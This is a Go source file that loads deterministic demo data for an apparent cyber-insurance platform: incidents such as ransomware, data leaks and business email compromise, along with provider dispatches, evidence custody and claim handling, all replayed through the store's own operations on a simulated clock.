package store

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"github.com/anbao/anbao"
	"github.com/anbao/anbao/claims"
	"github.com/anbao/anbao/cover"
	"github.com/anbao/anbao/incident"
	"github.com/anbao/anbao/refdata"
)

// Demo incidents, emergency response and claims (issue #6), on a loaded
// demo pilot with its underwriting. Unlike the other demo loaders, which
// write rows in bulk, this one goes through the store's own operations
// (ReportIncident, DispatchProvider, StepDispatch, UseEntitlement,
// AddEvidence, RecordCustody, OpenClaim, AssessClaim, PayClaim …) as the
// demo users who would take each step: the enterprise's administrator, a
// provider on the policy's approved roster reporting on its behalf or
// responding, the insurer's claims handler. So everything the demo holds
// passed the validation real input passes: grades from the rule table,
// rosters, entitlement ledgers, custody chains, the claims calculator,
// limits and erosion.
//
// The incidents are spread over the eight months before the load. The
// loader plans every step of every case with its instant, sorts the steps
// and runs them in time order with the store's clock (Store.Now) set to each
// step's instant, firing the timers (FireTimers) whenever one has come due
// before a step, as the server's scheduler would. Steps planned after the
// load's instant are not run, so recent cases stand where they would stand
// now (a provider still on site, a statutory deadline counting down).
// Afterwards the clock is restored and the timers fire once more. Nothing
// else may use the store meanwhile: load before serving.
//
// Enterprises without demo users (all but ent1…ent20) act through their
// provider, which reports on their behalf and files the statutory report,
// and through their insurer's claims handler, who dispatches providers and
// opens the claim on the insured's notice: no actor is invented.
//
// The plan is deterministic: the same database (the same pilot and book),
// seed and instant give the same incidents, steps and amounts.

// DemoIncidentReport counts what LoadDemoIncidents wrote.
type DemoIncidentReport struct {
	Incidents  int            `json:"incidents"`
	Grades     map[string]int `json:"grades"`     // incidents by grade
	Categories map[string]int `json:"categories"` // incidents by GB/T 20986 category
	Statuses   map[string]int `json:"statuses"`   // incidents by status
	Dispatches map[string]int `json:"dispatches"` // dispatches by status
	Evidence   int            `json:"evidence"`
	Custody    int            `json:"custody"` // custody events, collection included
	Claims     map[string]int `json:"claims"`  // claims by status
	Claimed    int64          `json:"claimed"` // 分: the loss items of every claim
	Paid       int64          `json:"paid"`    // 分
	Recovered  int64          `json:"recovered"`
	// Steps is the number of store operations run (timer passes aside), by operation.
	Steps map[string]int `json:"steps"`
}

// LoadDemoIncidents adds the demo incidents, response and claims to a
// loaded demo pilot and underwriting (see above), deterministically from
// seed. It refuses a database that already holds incidents.
func (s *Store) LoadDemoIncidents(ctx context.Context, seed uint64) (*DemoIncidentReport, error) {
	p := anbao.PrincipalFrom(ctx)
	if p == nil || !p.System {
		return nil, anbao.Errorf(anbao.EFORBIDDEN, "error.forbidden")
	}
	var n int
	if err := s.read.QueryRowContext(ctx, "SELECT COUNT(*) FROM incidents").Scan(&n); err != nil {
		return nil, err
	}
	if n > 0 {
		return nil, anbao.Errorf(anbao.ECONFLICT, "demo.not_empty")
	}
	clock := s.Now
	defer func() { s.Now = clock }()
	// The steps need ids, not the records read back: skip the read-backs.
	l := &diLoader{s: s, ctx: withoutReadBack(ctx), now: clock().UTC().Truncate(time.Minute),
		r: rand.New(rand.NewPCG(seed, 0x696e636964656e74)), // "incident"
		rep: &DemoIncidentReport{Grades: map[string]int{}, Categories: map[string]int{}, Statuses: map[string]int{},
			Dispatches: map[string]int{}, Claims: map[string]int{}, Steps: map[string]int{}}}
	if err := l.read(); err != nil {
		return nil, fmt.Errorf("demo incidents: %w", err)
	}
	l.plan()
	s.Now = func() time.Time { return l.cur }
	if err := l.run(); err != nil {
		return nil, err
	}
	s.Now = clock
	if _, err := s.FireTimers(ctx); err != nil {
		return nil, err
	}
	if err := l.count(); err != nil {
		return nil, err
	}
	if s.engine == Postgres {
		_, err := s.write.ExecContext(ctx, "ANALYZE incidents, incident_events, timers, dispatches, entitlement_usage, incident_evidence, "+
			"custody_events, claims, claim_events, claim_payments, claim_recoveries, term_erosion")
		return l.rep, err
	}
	return l.rep, s.Optimize(ctx)
}

// ---------------------------------------------------------------------------
// What the loader reads of the pilot and the book.

// diOrg is an organisation with the demo users who act for it.
type diOrg struct {
	*anbao.Organisation
	section string
	// admin and member: an enterprise's users; a provider's admin and
	// analyst; an insurer's admin and claims handler.
	admin, member *anbao.Principal
}

func (o *diOrg) prof() anbao.EnterpriseProfile {
	if o.Profile == nil {
		return anbao.EnterpriseProfile{}
	}
	return *o.Profile
}

// diTerm is a policy term with its segments.
type diTerm struct {
	no         int
	start, end string
	segs       []*Segment
}

// diPol is an active standard policy.
type diPol struct {
	id, ent, insurer int64
	number, product  string
	terms            []*diTerm
}

// termAt is the term covering day, with the terms in force on it.
func (p *diPol) termAt(day string) (*diTerm, *cover.Terms) {
	for _, t := range p.terms {
		if t.start <= day && day < t.end {
			return t, termsAt(t.segs, day, t.no)
		}
	}
	return nil, nil
}

type diFinding struct {
	id    int64
	title string
	since string
}

type diLoader struct {
	s   *Store
	ctx context.Context
	r   *rand.Rand
	now time.Time // the instant of the load
	cur time.Time // the store's clock while the steps run

	orgs     map[int64]*diOrg
	ents     []*diOrg // active enterprises, in id order
	pols     []*diPol
	covered  map[int64][][2]string // enterprise → [start, end) of its active terms, any policy
	engaged  map[int64][]int64     // enterprise → providers engaged
	findings map[int64][]diFinding // enterprise → high and critical findings not fixed

	usedEnt  map[int64]int
	usedTerm map[[2]int64]bool // policy and term with a claim
	rosters  map[*cover.Terms][]*diOrg
	ledger   map[string][2]int64
	cases    []*diCase
	steps    []*diStep
	seq      int
	rep      *DemoIncidentReport
	// timers mirrors each incident's timers as the operations return them,
	// so that the timers fire only when one is due.
}

func (l *diLoader) read() error {
	ctx, s := l.ctx, l.s
	l.orgs = map[int64]*diOrg{}
	err := eachRow(ctx, s.read, "SELECT "+orgColumns+" FROM organisations WHERE status = 'active' ORDER BY id", nil, func(sc scanner) error {
		o, err := scanOrg(sc)
		if err != nil {
			return err
		}
		d := &diOrg{Organisation: o}
		if o.Profile != nil {
			div, _ := refdata.DivisionByCode(o.Profile.Industry)
			d.section = div.Section
		}
		l.orgs[o.ID] = d
		if o.Kind == anbao.KindEnterprise {
			l.ents = append(l.ents, d)
		}
		return nil
	})
	if err != nil {
		return err
	}
	err = eachRow(ctx, s.read, "SELECT "+authColumns+" FROM users u JOIN organisations o ON o.id = u.org_id ORDER BY u.id", nil,
		func(sc scanner) error {
			r, err := scanAuth(sc)
			if err != nil {
				return err
			}
			o := l.orgs[r.user.OrgID]
			if o == nil || r.user.Disabled {
				return nil
			}
			p := r.principal()
			switch {
			case p.HasRole(anbao.RoleAdmin):
				if o.admin == nil {
					o.admin = p
				}
			case o.Kind == anbao.KindEnterprise && p.HasRole(anbao.RoleMember), o.Kind == anbao.KindProvider && p.HasRole(anbao.RoleAnalyst),
				o.Kind == anbao.KindInsurer && p.HasRole(anbao.RoleClaimsHandler):
				if o.member == nil {
					o.member = p
				}
			}
			return nil
		})
	if err != nil {
		return err
	}
	l.engaged = map[int64][]int64{}
	err = eachRow(ctx, s.read, `SELECT party_org_id, enterprise_id FROM relationships WHERE kind = $1 AND ended_at = ''
		ORDER BY party_org_id, enterprise_id`, []any{string(RelEngagement)}, func(sc scanner) error {
		var prov, ent int64
		if err := sc.Scan(&prov, &ent); err != nil {
			return err
		}
		if o := l.orgs[prov]; o != nil && o.Kind == anbao.KindProvider {
			l.engaged[ent] = append(l.engaged[ent], prov)
		}
		return nil
	})
	if err != nil {
		return err
	}
	l.findings = map[int64][]diFinding{}
	err = eachRow(ctx, s.read, `SELECT id, enterprise_id, title, created_at FROM findings
		WHERE status NOT IN ('fixed', 'false_positive') AND severity IN ('critical', 'high') ORDER BY id`, nil, func(sc scanner) error {
		var f diFinding
		var ent int64
		if err := sc.Scan(&f.id, &ent, &f.title, &f.since); err != nil {
			return err
		}
		l.findings[ent] = append(l.findings[ent], f)
		return nil
	})
	if err != nil {
		return err
	}
	// Every active term of any policy, to find enterprises with none.
	l.covered = map[int64][][2]string{}
	err = eachRow(ctx, s.read, `SELECT pol.enterprise_id, t.start_date, t.end_date FROM policy_terms t JOIN policies pol ON pol.id = t.policy_id
		WHERE t.status = 'active' ORDER BY t.id`, nil, func(sc scanner) error {
		var ent int64
		var a, b string
		if err := sc.Scan(&ent, &a, &b); err != nil {
			return err
		}
		l.covered[ent] = append(l.covered[ent], [2]string{a, b})
		return nil
	})
	if err != nil {
		return err
	}
	// Active standard policies whose terms reach into the window, with their segments.
	from := l.day(l.now.AddDate(0, 0, -diWindowDays-60))
	byID := map[int64]*diPol{}
	err = eachRow(ctx, s.read, `SELECT pol.id, pol.number, pol.enterprise_id, pol.insurer_id, p.code, t.term_no, t.start_date, t.end_date
		FROM policies pol JOIN products p ON p.id = pol.product_id JOIN policy_terms t ON t.policy_id = pol.id
		WHERE pol.status = 'active' AND pol.kind = 'standard' AND t.status = 'active' AND t.end_date > $1 ORDER BY pol.id, t.term_no`,
		[]any{from}, func(sc scanner) error {
			var p diPol
			var t diTerm
			if err := sc.Scan(&p.id, &p.number, &p.ent, &p.insurer, &p.product, &t.no, &t.start, &t.end); err != nil {
				return err
			}
			if e, i := l.orgs[p.ent], l.orgs[p.insurer]; e == nil || e.Kind != anbao.KindEnterprise || i == nil || i.member == nil {
				return nil
			}
			pol := byID[p.id]
			if pol == nil {
				pol = &p
				byID[p.id] = pol
				l.pols = append(l.pols, pol)
			}
			pol.terms = append(pol.terms, &t)
			return nil
		})
	if err != nil {
		return err
	}
	return eachRow(ctx, s.read, `SELECT g.policy_id, t.term_no, g.seq, g.start_date, g.end_date, g.terms FROM policy_segments g
		JOIN policy_terms t ON t.id = g.term_id WHERE t.end_date > $1 ORDER BY g.policy_id, t.term_no, g.seq`, []any{from},
		func(sc scanner) error {
			var id int64
			var g Segment
			var raw string
			if err := sc.Scan(&id, &g.TermNo, &g.Seq, &g.StartDate, &g.EndDate, &raw); err != nil {
				return err
			}
			pol := byID[id]
			if pol == nil {
				return nil
			}
			for _, t := range pol.terms {
				if t.no == g.TermNo {
					g.Terms = &cover.Terms{}
					if err := json.Unmarshal([]byte(raw), g.Terms); err != nil {
						return err
					}
					t.segs = append(t.segs, &g)
				}
			}
			return nil
		})
}

// ---------------------------------------------------------------------------
// Cases.

// diWindowDays is how far back the incidents go.
const diWindowDays = 235

// diCase is one incident with what follows it.
type diCase struct {
	l        *diLoader
	kind     *diKind
	ent      *diOrg
	pol      *diPol // nil: no policy in force
	term     *diTerm
	terms    *cover.Terms
	insurer  *diOrg
	provider *diOrg // the provider that reports on the enterprise's behalf, nil when the enterprise does
	first    *diOrg // the provider dispatched first
	forensic *diOrg // a second provider, for forensics
	declines bool   // the first provider declines and another is dispatched
	inHouse  bool   // handled by the enterprise's own staff (or the provider that reported it), no dispatch
	hold     string // the state the first dispatch is still in at the load ("": it runs its course)

	want       incident.Grade
	op         string
	occurred   time.Time
	discovered time.Time
	reported   time.Time

	in     IncidentInput
	grade  incident.Grade
	regrad *incident.Facts // facts learnt later that raise the grade (UpdateIncident)

	statutory string // on_time | late | pending (reportable incidents)
	summary   string // submit | overdue
	notice    string // report | later | late ("" without a policy)
	noticeAt  time.Time
	services  []string
	evidence  []diEvidence
	claim     *diClaim

	// Filled as the steps are planned and run.
	id    int64
	disps []*diDisp
	endAt time.Time
}

// diDisp is a dispatch as planned; id is set when it runs.
type diDisp struct {
	prov          *diOrg
	id            int64
	assigned, end time.Time
	engineer      string
}

// diEvidence is an item of evidence to register.
type diEvidence struct {
	kind, name, note string
	content          []byte // nil: registered by its SHA-256 only
	byProvider       bool   // collected by the responding provider, else by the reporter
}

// diClaim is a claim to open and how far its handling goes.
type diClaim struct {
	items       []ClaimItem
	claimMade   bool // liability items: the third party claimed on the day of discovery
	excl        []claims.ExclusionFact
	finding     int64
	target      string // the claim status it reaches
	decline     string // a fixed decline reason
	declineNote string
	reopen      bool
	consent     bool    // the insurer consents to the ransom item
	recovery    float64 // share of the payments recovered afterwards
	openAt      time.Time

	id       int64
	payable  int64
	held     int64
	approved int64
	paid     int64
	calc     *claims.Result
}

func (c *diClaim) total() int64 {
	var t int64
	for _, it := range c.items {
		t += it.Amount
	}
	return t
}

// diStep is one store operation at its instant.
type diStep struct {
	at   time.Time
	seq  int
	c    *diCase
	what string
	fn   func() error
}

func (l *diLoader) day(t time.Time) string { return t.In(anbao.Shanghai).Format(time.DateOnly) }

func (l *diLoader) between(lo, hi int) int { return lo + l.r.IntN(hi-lo+1) }

func (l *diLoader) minutes(lo, hi int) time.Duration {
	return time.Duration(l.between(lo, hi)) * time.Minute
}

func (l *diLoader) hours(lo, hi float64) time.Duration {
	return time.Duration((lo + l.r.Float64()*(hi-lo)) * float64(time.Hour)).Truncate(time.Minute)
}

func (l *diLoader) days(lo, hi float64) time.Duration { return l.hours(24*lo, 24*hi) }

func (l *diLoader) pick(list []string) string { return list[l.r.IntN(len(list))] }

// amount draws a log-uniform amount between lo and hi yuan, to the ¥100, in 分.
func (l *diLoader) amount(lo, hi float64) int64 {
	v := math.Exp(math.Log(lo) + l.r.Float64()*(math.Log(hi)-math.Log(lo)))
	return max(int64(math.Round(v/100)), 1) * 100 * 100
}

// diAt is hour:minute Beijing time on the day of t.
func diAt(t time.Time, hour, minute int) time.Time {
	b := t.In(anbao.Shanghai)
	return time.Date(b.Year(), b.Month(), b.Day(), hour, minute, 0, 0, anbao.Shanghai).UTC()
}

// diSlot is a policy term an incident can fall under.
type diSlot struct {
	pol   *diPol
	term  *diTerm
	terms *cover.Terms
}

// slots lists the terms in force from occ to three weeks after disc, of
// enterprises without a case yet and without a claim on the term, that ok accepts.
func (l *diLoader) slots(occ, disc time.Time, ok func(o *diOrg, s diSlot) bool) []diSlot {
	var out []diSlot
	od, dd, after := l.day(occ), l.day(disc), l.day(disc.AddDate(0, 0, 21))
	for _, p := range l.pols {
		if l.usedEnt[p.ent] > 0 {
			continue
		}
		t, terms := p.termAt(od)
		if t == nil || terms == nil || dd >= t.end || after >= t.end || l.usedTerm[[2]int64{p.id, int64(t.no)}] {
			continue
		}
		if terms.RetroDate != "" && od < terms.RetroDate || len(l.roster(terms)) == 0 {
			continue
		}
		s := diSlot{p, t, terms}
		if ok == nil || ok(l.orgs[p.ent], s) {
			out = append(out, s)
		}
	}
	return out
}

// roster is the approved providers of terms that have demo users.
func (l *diLoader) roster(t *cover.Terms) []*diOrg {
	if out, ok := l.rosters[t]; ok {
		return out
	}
	var out []*diOrg
	for _, id := range t.Providers {
		if o := l.orgs[id]; o != nil && o.Kind == anbao.KindProvider && o.admin != nil && o.member != nil {
			out = append(out, o)
		}
	}
	l.rosters[t] = out
	return out
}

// newCase makes a case of kind k discovered at disc for enterprise ent
// under slot s (none when s.pol is nil).
func (l *diLoader) newCase(k *diKind, ent *diOrg, s diSlot, disc time.Time, want incident.Grade) *diCase {
	c := &diCase{l: l, kind: k, ent: ent, pol: s.pol, term: s.term, terms: s.terms, want: want, discovered: disc,
		statutory: "on_time", summary: "submit"}
	c.occurred = disc.Add(-k.lag(l)).Truncate(time.Minute)
	switch pr := ent.prof(); {
	case pr.CII:
		c.op = string(incident.OperatorCII)
	case pr.CentralOrgan:
		c.op = string(incident.OperatorCentralState)
	default:
		c.op = string(incident.OperatorOther)
	}
	l.usedEnt[ent.ID]++
	if c.pol != nil {
		c.insurer = l.orgs[c.pol.insurer]
		c.notice = "report"
		if ent.admin != nil && l.r.IntN(3) == 0 {
			c.notice = "later"
		}
		roster := l.roster(c.terms)
		// The provider the enterprise engaged responds first when it is on the roster.
		for _, id := range l.engaged[ent.ID] {
			for _, o := range roster {
				if o.ID == id && c.first == nil {
					c.first = o
				}
			}
		}
		if c.first == nil {
			// A first responder rather than a forensic laboratory, when the roster has one.
			resp := slices.DeleteFunc(slices.Clone(roster), func(o *diOrg) bool { return strings.Contains(o.NameZH, "鉴定") })
			if len(resp) == 0 {
				resp = roster
			}
			c.first = resp[l.r.IntN(len(resp))]
		}
		if k.forensic && (want != incident.GradeGeneral || l.r.IntN(3) == 0) {
			c.forensic = l.forensicFor(c)
		}
		c.inHouse = l.r.Float64() < k.inHouse
	}
	if ent.admin == nil {
		// No demo user: a provider reports on the enterprise's behalf.
		c.provider = c.first
		for _, id := range l.engaged[ent.ID] {
			if o := l.orgs[id]; o != nil && o.admin != nil && o.member != nil && c.provider == nil {
				c.provider = o
			}
		}
	}
	c.reported = disc.Add(l.minutes(12, 95))
	if c.provider != nil {
		c.reported = disc.Add(l.minutes(25, 150))
	}
	if age := l.now.Sub(disc); age < 4*time.Hour {
		c.reported = disc.Add(min(c.reported.Sub(disc), age/3))
	}
	c.reported = c.reported.Truncate(time.Minute)
	if c.pol != nil {
		c.claim = &diClaim{}
	}
	k.fill(c)
	c.capItems()
	// Evidence: all of it for the serious cases, two items when the kind
	// is worth forensics, at most one for a minor case.
	if c.forensic == nil && want == incident.GradeGeneral {
		keep := 0
		if k.forensic || k == kindBEC || l.r.IntN(10) < 3 {
			keep = 1
		}
		c.evidence = slices.DeleteFunc(c.evidence, func(e diEvidence) bool { return e.kind == "forensic_report" })
		c.evidence = c.evidence[:min(keep, len(c.evidence))]
	} else if len(c.evidence) > 3 {
		c.evidence = slices.Delete(c.evidence, 1, 2)
	}
	if c.pol != nil {
		c.in.PolicyID = c.pol.id
	}
	c.in.Category, c.in.SubCategory = k.cat, k.sub
	c.in.OccurredAt, c.in.DiscoveredAt, c.in.OperatorType = c.occurred.Format(time.RFC3339), disc.Format(time.RFC3339), c.op
	c.grade = c.gradeOf(c.in.Facts)
	if c.claim != nil && len(c.claim.items) == 0 {
		c.claim = nil
	}
	if c.claim != nil {
		l.usedTerm[[2]int64{c.pol.id, int64(c.term.no)}] = true
	}
	l.cases = append(l.cases, c)
	return c
}

func (c *diCase) gradeOf(f incident.Facts) incident.Grade {
	if t, ok := incident.Current(c.discovered); ok {
		return t.Grade(f).Grade
	}
	return incident.GradeGeneral
}

// reporterCtx acts for whoever reports: the enterprise's admin, or its provider.
func (c *diCase) reporterCtx() context.Context {
	if c.provider != nil {
		return c.l.as(c.provider.admin)
	}
	return c.l.as(c.ent.admin)
}

// requesterCtx acts for whoever dispatches providers and notifies the
// insurer: the enterprise's admin, else the insurer's claims handler (who
// cannot notify itself: the provider's report carries the notice).
func (c *diCase) requesterCtx() context.Context {
	if c.ent.admin != nil {
		return c.l.as(c.ent.admin)
	}
	return c.l.as(c.insurer.member)
}

func (l *diLoader) as(p *anbao.Principal) context.Context { return anbao.WithPrincipal(l.ctx, p) }

// forensicFor is a provider of the roster other than the first, preferring
// a forensic laboratory (司法鉴定).
func (l *diLoader) forensicFor(c *diCase) *diOrg {
	var other *diOrg
	for _, o := range l.roster(c.terms) {
		if o == c.first {
			continue
		}
		if strings.Contains(o.NameZH, "鉴定") {
			return o
		}
		if other == nil {
			other = o
		}
	}
	return other
}

// entOf is the enterprise of a demo user.
func (l *diLoader) entOf(username string) *diOrg {
	for _, o := range l.ents {
		if o.admin != nil && o.admin.Username == username {
			return o
		}
	}
	return nil
}

type diFilter = func(o *diOrg, s diSlot) bool

// plan chooses the cases and schedules their steps.
func (l *diLoader) plan() {
	l.usedEnt, l.usedTerm, l.ledger = map[int64]int{}, map[[2]int64]bool{}, map[string][2]int64{}
	l.rosters = map[*cover.Terms][]*diOrg{}
	earliest := l.now.AddDate(0, 0, -diWindowDays)
	if t, ok := incident.Current(l.now); !ok {
		return // no rule table in force: nothing can be graded
	} else if eff := t.Effective.Time.Add(72 * time.Hour); earliest.Before(eff) {
		earliest = eff
	}
	if !earliest.Before(l.now.Add(-72 * time.Hour)) {
		return
	}
	span := l.now.Sub(earliest)
	// disc draws a discovery instant between minAge and maxAge days ago,
	// more often recent (the book grows), at an hour the kind suggests.
	disc := func(k *diKind, minAge, maxAge float64) time.Time {
		lo := max(minAge*24*float64(time.Hour), 0)
		hi := min(maxAge*24*float64(time.Hour), float64(span))
		hi = max(hi, lo)
		t := l.now.Add(-time.Duration(lo + (hi-lo)*(1-math.Sqrt(l.r.Float64()))))
		if minAge >= 1 {
			t = diAt(t, k.hour(l), l.between(0, 59))
			if t.After(l.now.Add(-time.Duration(minAge * 24 * float64(time.Hour)))) {
				t = t.Add(-24 * time.Hour)
			}
		}
		return t.Truncate(time.Minute)
	}
	// place makes a case of kind k on a random slot that ok accepts.
	place := func(k *diKind, minAge, maxAge float64, want incident.Grade, ok diFilter) *diCase {
		for range 8 {
			d := disc(k, minAge, maxAge)
			sl := l.slots(d.Add(-k.maxLag), d, func(o *diOrg, s diSlot) bool {
				return (k.fits == nil || k.fits(o, s)) && (ok == nil || ok(o, s))
			})
			if len(sl) == 0 {
				continue
			}
			s := sl[l.r.IntN(len(sl))]
			return l.newCase(k, l.orgs[s.pol.ent], s, d, want)
		}
		return nil
	}
	has := func(codes ...string) diFilter {
		return func(o *diOrg, s diSlot) bool {
			for _, c := range codes {
				if s.terms.Coverage(c) == nil {
					return false
				}
			}
			return true
		}
	}
	excl := func(code string) diFilter {
		return func(o *diOrg, s diSlot) bool {
			return slices.ContainsFunc(s.terms.Exclusions, func(c cover.ClauseRef) bool { return c.Code == code })
		}
	}
	and := func(fs ...diFilter) diFilter {
		return func(o *diOrg, s diSlot) bool {
			for _, f := range fs {
				if !f(o, s) {
					return false
				}
			}
			return true
		}
	}
	// Paths that need a payment avoid the towers' high retentions.
	payable := func(o *diOrg, s diSlot) bool { return s.terms.Retention <= 50_000*100 }
	gen, rel, maj := incident.GradeGeneral, incident.GradeRelativelyMajor, incident.GradeMajor

	// ent1: an older ransomware case, paid; a recent trojan on the finance
	// desk, its provider still on the case and its claim open.
	if ent1 := l.entOf("ent1.admin"); ent1 != nil {
		mine := func(o *diOrg, _ diSlot) bool { return o == ent1 }
		if c := place(kindRansomware, 50, 200, gen, and(mine, has(cover.CovEmergencyResponse, cover.CovDataRestoration), payable)); c != nil {
			c.forensic = l.forensicFor(c)
			if c.claim != nil {
				c.claim.target = ClaimClosed
			}
		}
		// The second may share the first's term: the first is paid and closed long before.
		l.usedEnt[ent1.ID] = 0
		for k := range l.usedTerm {
			for _, p := range l.pols {
				if p.id == k[0] && p.ent == ent1.ID {
					delete(l.usedTerm, k)
				}
			}
		}
		if c := place(kindTrojan, 1.6, 2.6, gen, and(mine, has(cover.CovEmergencyResponse))); c != nil {
			c.forensic, c.inHouse, c.hold = nil, false, DispatchAssigned
			if c.claim != nil {
				c.claim.target = ClaimOpen
			}
		}
	}
	// The countdown: reportable incidents discovered in the last hours,
	// their statutory deadline still ahead.
	for _, x := range []struct {
		k    *diKind
		ago  time.Duration
		hold string
		ok   diFilter
	}{
		{kindDataLeak, 55 * time.Minute, DispatchAcknowledged, func(o *diOrg, _ diSlot) bool {
			return !o.prof().CII && !o.prof().CentralOrgan && o.prof().Size != anbao.SizeMicro
		}},
		{kindRansomware, 21 * time.Minute, DispatchRequested, func(o *diOrg, _ diSlot) bool { return o.prof().CII }},
		{kindRetailOutage, 112 * time.Minute, "", func(o *diOrg, s diSlot) bool {
			return !o.prof().CII && !o.prof().CentralOrgan && kindRetailOutage.fits(o, s)
		}},
	} {
		d := l.now.Add(-x.ago).Truncate(time.Minute)
		sl := l.slots(d.Add(-x.k.maxLag), d, x.ok)
		if len(sl) == 0 {
			continue
		}
		s := sl[l.r.IntN(len(sl))]
		c := l.newCase(x.k, l.orgs[s.pol.ent], s, d, rel)
		c.claim, c.statutory, c.inHouse, c.hold = nil, "pending", false, x.hold
	}
	// The other demo enterprises with a policy report their own incident.
	for _, o := range l.ents {
		if o.admin != nil && l.usedEnt[o.ID] == 0 {
			mine := func(x *diOrg, _ diSlot) bool { return x == o }
			for range 3 {
				if place(l.kindFor(o, nil, nil), 4, 200, gen, mine) != nil {
					break
				}
			}
		}
	}
	// Paths worth showing.
	if c := place(kindDataLeak, 45, 200, rel, and(has(cover.CovDataLeakLiability),
		func(o *diOrg, _ diSlot) bool { return o.prof().Size != anbao.SizeMicro })); c != nil {
		// Reported as a smaller leak; found to exceed a million people after
		// the deadline had passed: filed late.
		f := c.in.Facts
		c.regrad = &f
		c.in.Facts.PILeakedPeople = int64(l.between(150, 300)) * 1000
		c.in.Details.AffectedData = fmt.Sprintf("初步统计，泄露客户姓名、手机号和收货地址等个人信息约 %d 万条。", c.in.Facts.PILeakedPeople/10_000)
		c.grade, c.statutory = gen, "late"
		if c.claim != nil {
			c.claim.target = ClaimPartiallyPaid
		}
	}
	for _, age := range [][2]float64{{100, 220}, {35, 100}} {
		if c := place(kindRansomware, age[0], age[1], maj, func(o *diOrg, _ diSlot) bool { return o.prof().CII }); c != nil && c.forensic == nil {
			c.forensic = l.forensicFor(c)
		}
	}
	if c := place(kindRansomware, 16, 60, gen, and(has(cover.CovExtortion), payable)); c != nil && c.claim != nil {
		c.addRansom()
		c.claim.target = ClaimAssessed // the ransom is held until the insurer consents
	}
	if c := place(kindRansomware, 80, 220, gen, and(has(cover.CovExtortion), payable)); c != nil && c.claim != nil {
		c.addRansom()
		c.claim.consent, c.claim.target = true, ClaimClosed
		c.in.Details.Ransomware.Paid = true
	}
	if c := place(kindBEC, 70, 210, gen, and(has(cover.CovFundsTransfer), payable)); c != nil && c.claim != nil {
		c.claim.target, c.claim.recovery = ClaimClosed, 0.3+0.35*l.r.Float64()
	}
	if c := place(kindPower, 30, 200, gen, and(excl("infrastructure_outage"), has(cover.CovHardware))); c != nil && c.claim != nil {
		c.claim.target = ClaimDeclined
	}
	if c := place(kindHiddenLink, 25, 200, gen, nil); c != nil && c.claim != nil {
		c.claim.target = ClaimDeclined // within the retention
	}
	for i, reopen := range []bool{true, false} {
		if c := place(l.kindFor(nil, nil, []*diKind{kindExploit, kindOperatorError}), 45, 210, gen,
			has(cover.CovEmergencyResponse, cover.CovDataRestoration)); c != nil && c.claim != nil {
			c.notice = "late"
			c.claim.target, c.claim.decline, c.claim.reopen = ClaimDeclined, "late_notice", reopen
			c.claim.declineNote = fmt.Sprintf("被保险人于事故发现后第 %d 日方通知保险人，超出保险合同约定的 %d 小时通知期限，致使事故原因和损失程度难以核实。",
				4+i, max(c.terms.NoticeHours, DefaultNoticeHours))
		}
	}
	// A finding the insurer had in view caused the loss (the deductible
	// rises); another, left open more than thirty days after notice, excludes it.
	if c := l.findingCase(place, payable, 6, 27); c != nil && c.claim != nil {
		c.claim.target = ClaimClosed
	}
	if c := l.findingCase(place, excl("unpatched_critical"), 34, 70); c != nil && c.claim != nil {
		c.claim.target, c.claim.decline, c.claim.finding = ClaimDeclined, "exclusion", 0
		c.claim.excl = slices.DeleteFunc(c.claim.excl, func(f claims.ExclusionFact) bool { return f.Code == "unpatched_critical" })
		c.addExclusion("unpatched_critical", true, "导致事故的漏洞已在保险人认可的服务机构出具的安全评估报告中书面告知被保险人，通知后逾三十日既未修复也未采取缓解措施。")
		c.claim.declineNote = "经查，事故系被保险人未修复的已知高危漏洞直接导致，该漏洞已于安全评估中书面告知且逾三十日未修复，适用未修复已知高危漏洞除外条款。"
	}
	// Reportable incidents of the past months: two filed late, two whose summary is overdue.
	k := 0
	for range 9 {
		c := place(l.kindFor(nil, nil, []*diKind{kindDataLeak, kindRansomware, kindRetailOutage, kindDefacement}), 50, 220, rel,
			func(o *diOrg, _ diSlot) bool { return o.prof().Size != anbao.SizeMicro })
		if c == nil || !c.grade.Reportable() {
			continue
		}
		switch k {
		case 0, 1:
			c.statutory = "late"
		case 2, 3:
			c.summary = "overdue"
		}
		k++
	}
	// The categories of minor incidents: an anomaly, a vulnerability notice.
	place(kindAccess, 5, 200, gen, nil)
	place(kindVuln, 5, 200, gen, nil)
	// One dispatch declined by the provider asked first, and redispatched.
	for _, c := range l.cases {
		if c.pol != nil && !c.inHouse && c.forensic == nil && l.forensicFor(c) != nil && l.now.Sub(c.reported) > 20*24*time.Hour {
			c.declines = true
			break
		}
	}
	// Enterprises without a policy: demo users reporting themselves, and
	// providers reporting for enterprises that engaged them.
	own, others := 0, 0
	for _, o := range l.ents {
		switch {
		case own < 3 && o.admin != nil && l.usedEnt[o.ID] == 0:
			if l.uninsured(o, disc) != nil {
				own++
			}
		case others < 3 && o.admin == nil && len(l.engaged[o.ID]) > 0 && l.usedEnt[o.ID] == 0 && o.prof().Size != anbao.SizeMicro:
			if l.uninsured(o, disc) != nil {
				others++
			}
		}
	}
	// The rest at random, to about one incident per fourteen policies in the window.
	target := min(68, max(8, len(l.pols)/14))
	for tries := 0; len(l.cases) < target && tries < 4*target; tries++ {
		d := disc(kindPhishing, 0.7, float64(diWindowDays))
		sl := l.slots(d.Add(-30*24*time.Hour), d, nil)
		if len(sl) == 0 {
			continue
		}
		s := sl[l.r.IntN(len(sl))]
		o := l.orgs[s.pol.ent]
		k := l.kindFor(o, &s, nil)
		if k.fits != nil && !k.fits(o, s) {
			k = kindPhishing
		}
		if t, _ := s.pol.termAt(l.day(d.Add(-k.maxLag))); t != s.term {
			k = kindPhishing
			if t, _ := s.pol.termAt(l.day(d.Add(-k.maxLag))); t != s.term {
				continue
			}
		}
		want := gen
		if l.r.IntN(100) < 8 {
			want = rel
		}
		c := l.newCase(k, o, s, d, want)
		if c.grade.Reportable() && c.discovered.After(l.now.Add(-8*time.Hour)) {
			c.statutory = "pending"
		}
	}
	// The latest case but a day and a half old whose provider has contained
	// it and not closed it yet (its report still being written).
	var latest *diCase
	for _, c := range l.cases {
		if c.pol != nil && !c.inHouse && c.hold == "" && c.discovered.Before(l.now.Add(-36*time.Hour)) &&
			(latest == nil || c.discovered.After(latest.discovered)) {
			latest = c
		}
	}
	if latest != nil {
		latest.hold = DispatchContained
	}
	l.targets()
	for _, c := range l.cases {
		c.schedule()
	}
	slices.SortStableFunc(l.steps, func(a, b *diStep) int {
		if c := a.at.Compare(b.at); c != 0 {
			return c
		}
		return a.seq - b.seq
	})
}

